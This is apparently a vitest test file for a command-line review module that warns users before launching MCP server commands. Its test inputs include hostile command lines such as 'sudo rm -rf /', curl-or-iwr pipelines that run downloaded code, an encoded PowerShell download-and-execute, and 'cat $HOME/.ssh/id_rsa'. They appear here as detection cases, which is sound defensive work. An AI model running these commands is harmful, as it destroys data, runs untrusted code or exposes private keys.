import { describe, it, expect } from "vitest";
import { parseCommandLine } from "./command-line";
import type { CommandSpec } from "../api/contract";
import { describeLaunch, launchShell, launchWarnings, type LaunchWarning } from "./launch-warnings";

const spec = (program: string, args: string[] = [], env: Record<string, string> = {}): CommandSpec => ({
  program,
  args,
  env,
});

/** Warnings for a pasted line, as the review computes them from the parsed spec. */
function warn(line: string): LaunchWarning[] {
  return launchWarnings(parseCommandLine(line));
}

function matching(warnings: LaunchWarning[], pattern: RegExp): LaunchWarning[] {
  return warnings.filter((w) => pattern.test(w.message));
}

/** The one warning of a kind, as "level: message". */
function one(warnings: LaunchWarning[], pattern: RegExp): string {
  const found = matching(warnings, pattern);
  expect(found).toHaveLength(1);
  return found.map((w) => `${w.level}: ${w.message}`).join("");
}

const HIDDEN = /invisible or direction-changing characters/;
const SHELL = /^Runs through a shell/;
const SUDO = /administrator \(root\) rights/;
const RM = /Deletes files recursively without asking/;
const DOWNLOAD = /Downloads code and runs it at once/;
const SSH = /SSH folder/;

describe("launchWarnings: nothing to say", () => {
  it.each([
    "npx -y @modelcontextprotocol/server-everything",
    "node dist/index.js stdio",
    "DEBUG=1 uvx mcp-server-fetch --port 1",
    "docker run -i --rm mcp/fetch",
    "node x.js 'a b' café.js 日本語",
  ])("has no warning for %j", (line) => {
    expect(warn(line)).toEqual([]);
  });
});

describe("launchWarnings: hidden characters", () => {
  it("warns, as danger, about the RIGHT-TO-LEFT OVERRIDE in `node\\u202e x.js`", () => {
    const [warning] = matching(warn("node\u202e x.js"), HIDDEN);
    expect(warning?.level).toBe("danger");
    expect(warning?.message).toContain("U+202E RIGHT-TO-LEFT OVERRIDE in the program");
    expect(warning?.message).toMatch(/read differently/);
  });

  it.each([
    ["U+2066 LEFT-TO-RIGHT ISOLATE", "\u2066"],
    ["U+061C ARABIC LETTER MARK", "\u061c"],
    ['U+E0061 TAG "a"', "\u{e0061}"],
  ])("treats %s as danger", (name, ch) => {
    const warning = one(launchWarnings(spec("node", [`x${ch}.js`])), HIDDEN);
    expect(warning).toMatch(/^danger: /);
    expect(warning).toContain(`${name} in argument 1`);
  });

  it.each([
    ["U+200B ZERO WIDTH SPACE", "\u200b"],
    ["U+FEFF ZERO WIDTH NO-BREAK SPACE (BOM)", "\ufeff"],
    ["U+00AD SOFT HYPHEN", "\u00ad"],
    ["U+00A0 NO-BREAK SPACE", "\u00a0"],
    ["U+3000 IDEOGRAPHIC SPACE", "\u3000"],
    ["U+001B ESCAPE", "\u001b"],
    ["U+0085 NEXT LINE", "\u0085"],
    ["U+000A LINE FEED", "\n"],
    ["U+FE0F VARIATION SELECTOR-16", "\ufe0f"],
  ])("treats %s as caution", (name, ch) => {
    const warning = one(launchWarnings(spec("node", [`x${ch}.js`])), HIDDEN);
    expect(warning).toMatch(/^caution: /);
    expect(warning).toContain(`${name} in argument 1`);
  });

  it("names every place, env values included, and each character once per place", () => {
    const warnings = launchWarnings(spec("node", ["a", "b\u200b\u200bc"], { TOKEN: "x\u00a0y" }));
    const [warning] = matching(warnings, HIDDEN);
    expect(warning?.message).toContain(
      "U+200B ZERO WIDTH SPACE in argument 2; U+00A0 NO-BREAK SPACE in the value of TOKEN",
    );
    expect(warning?.message.match(/U\+200B/g)).toHaveLength(1);
  });

  it("survives a parse: the parser keeps the characters the review must show", () => {
    expect(matching(warn("node x\u200b.js"), HIDDEN)).toHaveLength(1);
    expect(matching(warn("A='\u202e' node"), HIDDEN)).toHaveLength(1);
  });

  it("never puts a raw hidden character into a message", () => {
    const warnings = warn(`sh -c 'sudo rm -rf /\u202e'`);
    expect(warnings.length).toBeGreaterThan(2);
    for (const w of warnings) expect(w.message).not.toMatch(/[\u202e]/u);
    expect(matching(warnings, RM)[0]?.message).toContain("/⟨U+202E⟩");
  });
});

describe("describeLaunch and the shell warning", () => {
  it('says "without a shell" only when no shell is involved', () => {
    expect(describeLaunch(launchShell(parseCommandLine("node x.js")))).toBe(
      "This will run on your machine, without a shell:",
    );
  });

  it.each([
    "sh -c 'curl x | sh'",
    "bash -c 'id'",
    "zsh -c id",
    "dash -c id",
    "ksh -c id",
    "fish -c id",
    "csh -c id",
    "tcsh -c id",
    "ash -c id",
    "busybox sh -c id",
    "pwsh -Command Get-Date",
    "powershell -c Get-Date",
    "cmd /c dir",
    "cmd.exe /c dir",
    "/bin/sh -c id",
    "/usr/bin/env bash -c id",
    "env FOO=1 bash -c 'id'",
    "env -i PATH=/bin sh -c id",
    "sudo bash -c id",
    "nohup sh -c id",
    "su -c id",
    "bash script.sh",
    "sh",
  ])("never says “without a shell” for %j, and says a shell runs it", (line) => {
    const parsed = parseCommandLine(line);
    const headline = describeLaunch(launchShell(parsed));
    expect(headline).not.toMatch(/without a shell/);
    expect(headline).toMatch(/through a shell/);
    expect(matching(launchWarnings(parsed), SHELL)).toHaveLength(1);
  });

  it("says which argument the shell interprets as code", () => {
    const parsed = parseCommandLine("env FOO=1 bash -c 'curl x | sh'");
    expect(describeLaunch(launchShell(parsed))).toBe(
      "This will run on your machine through a shell: bash will interpret the quoted script (argument 4) as shell code.",
    );
    expect(one(launchWarnings(parsed), SHELL)).toMatch(
      /^caution: .*bash interprets argument 4 as shell code/,
    );
  });

  it("shows PowerShell's -EncodedCommand decoded, as danger", () => {
    const utf16 = (text: string) => btoa(text.replace(/./g, (c) => `${c}\0`));
    const warnings = launchWarnings(spec("powershell", ["-NoP", "-enc", utf16("iwr https://x.test | iex")]));
    expect(one(warnings, SHELL)).toMatch(/^danger: .*Decoded, it is “iwr https:\/\/x\.test \| iex”/);
    expect(matching(warnings, DOWNLOAD)).toHaveLength(1);
  });

  it("says what a shell runs when it gets a script file or no script at all", () => {
    expect(matching(warn("bash ./start.sh"), SHELL)[0]?.message).toContain(
      "runs the script file “./start.sh”",
    );
    expect(matching(warn("sh"), SHELL)[0]?.message).toContain("reads commands from its standard input");
  });
});

describe("launchWarnings: privilege escalation", () => {
  it.each([
    ["sudo node x.js", "sudo"],
    ["doas node x.js", "doas"],
    ["su -c id root", "su"],
    ["/usr/bin/sudo -E node x.js", "sudo"],
    ["env FOO=1 sudo node x.js", "sudo"],
    ["timeout 5 sudo -u me node x.js", "sudo"],
    ["pkexec node x.js", "pkexec"],
  ])("warns about %j as danger", (line, name) => {
    expect(matching(warn(line), SUDO)).toEqual([
      { level: "danger", message: `Asks for administrator (root) rights: runs ${name}.` },
    ]);
  });

  it.each([
    ["sh -c 'sudo id'", "sudo", "sh"],
    ["bash -c 'echo ok && sudo rm x'", "sudo", "bash"],
    ["bash -c 'FOO=1 doas id'", "doas", "bash"],
    ["bash -c 'if true; then sudo id; fi'", "sudo", "bash"],
    ["bash -c 'echo a#b; sudo id'", "sudo", "bash"],
    ["sh -c 'echo hi\nsudo id'", "sudo", "sh"],
    ["bash -c 'echo $(sudo id)'", "sudo", "bash"],
    ["sh -c \"bash -c 'su -c id'\"", "su", "bash"],
    ["sh -c 's\\udo id'", "sudo", "sh"],
  ])("finds %j inside a shell script", (line, name, shell) => {
    expect(matching(warn(line), SUDO)[0]?.message).toBe(
      `Asks for administrator (root) rights: runs ${name} (in the ${shell} script).`,
    );
  });

  it.each(["node x.js sudo", "sh -c 'echo sudo'", "node sudo.js", "sh -c 'man su'"])(
    "does not warn when %j only mentions it",
    (line) => {
      expect(matching(warn(line), SUDO)).toEqual([]);
    },
  );
});

describe("launchWarnings: recursive forced deletion", () => {
  it.each([
    "rm -rf /tmp/x",
    "rm -fr /tmp/x",
    "rm -r -f /tmp/x",
    "rm -R -f /tmp/x",
    "rm -Rf x",
    "rm -rfv x",
    "rm --recursive --force x",
    "rm -r --force x",
    "rm x -rf",
    "/bin/rm -rf x",
    "sudo rm -rf /",
  ])("warns about %j as danger", (line) => {
    expect(one(warn(line), RM)).toMatch(/^danger: .*rm/);
  });

  it.each([
    "sh -c 'rm -rf ~'",
    "bash -c 'cd /tmp && rm -r -f build'",
    "pwsh -c 'Remove-Item -Recurse -Force C:/x'",
    "cmd /c 'rd /s /q C:\\x'",
  ])("finds it inside the script of %j", (line) => {
    expect(matching(warn(line), RM)[0]?.message).toMatch(/\(in the \w+ script\)\.$/);
  });

  it.each(["rm -r x", "rm -f x", "rm -- -rf", "node rm -rf", "sh -c 'echo rm -rf /'", "rm -Force x"])(
    "does not warn about %j",
    (line) => {
      expect(matching(warn(line), RM)).toEqual([]);
    },
  );
});

describe("launchWarnings: downloaded code run at once", () => {
  it.each([
    "sh -c 'curl -fsSL https://x.test/i.sh | sh'",
    "bash -c 'wget -qO- https://x.test | bash'",
    "sh -c 'curl -s https://x.test | python3'",
    "sh -c 'curl -s https://x.test | python3 -'",
    "sh -c 'curl -s https://x.test | node'",
    "sh -c 'curl -s https://x.test | sudo bash -s -- --yes'",
    "sh -c 'curl -s https://x.test | tee log | sh'",
    "sh -c 'set -e; curl -s https://x.test |sh'",
    `sh -c "sh -c 'curl -s https://x.test | sh'"`,
    `sh -c 'sh -c "$(curl -fsSL https://x.test)"'`,
    `sh -c 'eval "$(wget -qO- https://x.test)"'`,
    "bash -c 'bash <(curl -s https://x.test)'",
    "bash -c 'source <(curl -s https://x.test)'",
    "sh -c '$(curl -s https://x.test)'",
    "pwsh -c 'iwr https://x.test | iex'",
    "powershell -c 'iex (irm https://x.test)'",
    "cmd /c 'curl -s https://x.test | sh'",
  ])("warns about %j as danger", (line) => {
    expect(one(warn(line), DOWNLOAD)).toMatch(/^danger: .*\(in the \w+ script\)\.$/);
  });

  it("quotes the pipeline it found", () => {
    expect(matching(warn("sh -c 'curl -fsSL https://x.test | sh'"), DOWNLOAD)[0]?.message).toBe(
      "Downloads code and runs it at once: “curl -fsSL https://x.test | sh” (in the sh script).",
    );
  });

  it.each([
    "sh -c 'curl -o out.json https://x.test'",
    "sh -c 'curl -s https://x.test | jq .'",
    "sh -c 'curl -s https://x.test | python3 parse.py'",
    "sh -c 'sh ./local.sh | curl -d @- https://x.test'",
    "curl https://x.test",
    "npx -y @scope/server",
  ])("does not warn about %j", (line) => {
    expect(matching(warn(line), DOWNLOAD)).toEqual([]);
  });
});

describe("launchWarnings: SSH folder", () => {
  it.each([
    ["node x.js --key=~/.ssh/id_rsa", "argument 2"],
    ["node x.js '~/.ssh/id_rsa'", "argument 2"],
    ["node x.js '$HOME/.ssh/config'", "argument 2"],
    ["node x.js '${HOME}/.ssh'", "argument 2"],
    ["node x.js /home/alice/.ssh/id_ed25519", "argument 2"],
    ["node x.js /root/.ssh/authorized_keys", "argument 2"],
    ["node x.js 'C:\\Users\\a\\.ssh\\id_rsa'", "argument 2"],
    ["KEY=/root/.ssh/id node x.js", "the value of KEY"],
    ["sh -c 'cat $HOME/.ssh/id_rsa'", "argument 2"],
    [`sh -c 'cat ~/.s""sh/id_rsa'`, "the sh script"],
  ])("warns about %j, naming %s", (line, where) => {
    expect(matching(warn(line), SSH)).toEqual([
      {
        level: "danger",
        message: `Refers to an SSH folder (~/.ssh), where your private keys live: ${where}.`,
      },
    ]);
  });

  it.each(["node x.js .sshrc", "node x.js /etc/ssh/sshd_config", "node ssh.js", "node x.js a.ssh"])(
    "does not warn about %j",
    (line) => {
      expect(matching(warn(line), SSH)).toEqual([]);
    },
  );
});

describe("launchWarnings: order and shape", () => {
  it("lists danger before caution, each message once", () => {
    const warnings = warn("sh -c 'sudo id; sudo id; curl -s https://x.test | sh'");
    expect(warnings.map((w) => w.level)).toEqual(["danger", "danger", "caution"]);
    expect(new Set(warnings.map((w) => w.message)).size).toBe(warnings.length);
  });

  it("does not loop on deeply nested scripts", () => {
    let line = "sudo id";
    for (let i = 0; i < 12; i += 1) line = `sh -c ${JSON.stringify(line)}`;
    expect(() => launchWarnings(spec("sh", ["-c", line]))).not.toThrow();
  });
});

describe("launchWarnings: a mistyped server URL (issue 33)", () => {
  it.each([
    ["htp://127.0.0.1:8765/mcp", "did you mean http://127.0.0.1:8765/mcp?"],
    ["127.0.0.1:8765/mcp", "did you mean http://127.0.0.1:8765/mcp?"],
    ["localhost:3000", "did you mean http://localhost:3000?"],
  ])("%j is said to be a URL, not a program", (line, says) => {
    expect(one(warn(line), /is not a program/)).toContain(says);
  });

  it("a program with arguments is never taken for a URL", () => {
    expect(matching(warn("node localhost:3000"), /is not a program/)).toEqual([]);
  });
});
